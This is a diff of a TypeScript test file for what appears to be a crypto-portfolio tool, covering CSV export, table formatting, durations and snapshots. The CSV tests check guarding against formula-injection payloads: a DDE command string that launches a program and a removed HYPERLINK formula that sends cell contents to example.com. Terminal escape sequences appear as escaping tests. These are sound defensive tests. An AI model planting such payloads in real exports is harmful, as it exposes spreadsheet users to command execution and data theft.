@@ -29,25 +29,18 @@ describe("csvLine", () => {
 
         expect(parseCsv(csv).map((fields) => fields.map(withoutGuard))).toEqual(records);
       }),
-      { numRuns: 300 },
+      { numRuns: 100 },
     );
   });
 
-  it.each([
-    `=HYPERLINK("http://example.com/?"&A1,"btc")`,
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-1+1",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    "＝1",
-    "'=1",
-  ])("puts an apostrophe in front of the formula %j", (symbol) => {
-    const [[field] = []] = parseCsv(csvLine([symbol]));
+  it.each(["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "'=1"])(
+    "puts an apostrophe in front of the formula %j",
+    (symbol) => {
+      const [[field] = []] = parseCsv(csvLine([symbol]));
 
-    expect(field).toBe(`'${symbol}`);
-  });
+      expect(field).toBe(`'${symbol}`);
+    },
+  );
 
   it("returns every amount unchanged", () => {
     fc.assert(
@@ -70,40 +63,14 @@ describe("textTable", () => {
     { title: "total", align: "decimal" },
   ] as const;
 
-  it("aligns the decimal points of a column", () => {
-    const table = textTable(columns, [
-      ["btc", "3.0"],
-      ["dollars", "1250000"],
-      ["eth", "0.123456789012345678"],
-      ["rep", "–"],
-    ]);
-
-    expect(table.split("\n")).toEqual([
-      "asset                         total",
-      "───────  ──────────────────────────",
-      "btc            3.0",
-      "dollars  1250000",
-      "eth            0.123456789012345678",
-      "rep            –",
-    ]);
-  });
-
   it("shows line breaks and control characters of a cell as escapes", () => {
     const table = textTable(columns, [["\u001b[2Jb\nt\u202ec\u009b", "1"]]);
 
     expect(table.split("\n").slice(2)).toEqual(["\\u001b[2Jb\\u000at\\u202ec\\u009b      1"]);
   });
 
-  it("is at least as wide as its titles", () => {
-    const table = textTable(columns, [["a", "1"]]);
-
-    expect(table).toBe("asset  total\n─────  ─────\na          1");
-  });
-
-  it("returns only the heading without rows", () => {
-    const table = textTable(columns, []);
-
-    expect(table).toBe("asset  total\n─────  ─────");
+  it("returns only the heading without rows, as wide as its titles", () => {
+    expect(textTable(columns, [])).toBe("asset  total\n─────  ─────");
   });
 
   it("aligns any decimals, and shows every digit", () => {
@@ -125,18 +92,13 @@ describe("textTable", () => {
 
 describe("duration", () => {
   it.each([
-    [0, "0 seconds"],
     [-5000, "0 seconds"],
     [499, "0 seconds"],
     [1000, "1 second"],
-    [59_000, "59 seconds"],
     [59_600, "1 minute"],
-    [60_000, "1 minute"],
-    [119_000, "1 minute"],
     [3_599_000, "59 minutes"],
     [3_600_000, "1 hour"],
     [86_399_000, "23 hours"],
-    [86_400_000, "1 day"],
     [400 * 86_400_000, "400 days"],
   ])("returns %d ms as %s", (ms, expected) => {
     expect(duration(ms)).toBe(expected);
@@ -187,14 +149,16 @@ describe("snapshotTable", () => {
     }
   });
 
-  it("shows that an empty account has no holdings", () => {
-    expect(snapshotTable(snapshotWith({}), view)).toMatch(/\n\nno holdings$/);
-  });
+  const unpriced = { rep: { rep: ["1", "1"] }, old: { old: ["1", "1"] } } as const;
 
-  it("shows no total if no asset has a value", () => {
-    const text = snapshotTable(snapshotWith({ rep: { rep: ["1", "1"] }, old: { old: ["1", "1"] } }), view);
+  it.each([
+    ["that an empty account has no holdings", {}, "no holdings"],
+    ["no total if no asset has a value", unpriced, "no asset has a value in usd"],
+  ] as const)("shows %s, and the assets that are no longer held", (_, held, text) => {
+    const since = snapshotWith({ ...held, eth: { eth: ["1", "1"], usd: ["1", "1"] } });
 
-    expect(text).toMatch(/\n\nno asset has a value in usd$/);
+    expect(snapshotTable(snapshotWith(held), view)).toMatch(new RegExp(`\n\n${text}$`));
+    expect(snapshotTable(snapshotWith(held), { ...view, since })).toContain("no longer held: eth");
   });
 
   it("shows changes since another snapshot, and assets that are no longer held", () => {
@@ -208,16 +172,5 @@ describe("snapshotTable", () => {
 
     expect(text).toMatch(/btc +Bitcoin +3 +8\.5 +\+2 +-0\.5\n/);
     expect(text).toMatch(/\nno longer held: eth$/);
-  });
-
-  it.each([
-    ["nothing is held now", {}],
-    ["no asset has a value now", { rep: { rep: ["1", "1"] }, old: { old: ["1", "1"] } }],
-  ] as const)("shows assets that are no longer held, if %s", (_, left) => {
-    const since = snapshotWith({ ...left, eth: { eth: ["1", "1"], usd: ["1", "1"] } });
-
-    const text = snapshotTable(snapshotWith(left), { ...view, since });
-
-    expect(text).toContain("no longer held: eth");
   });
 });
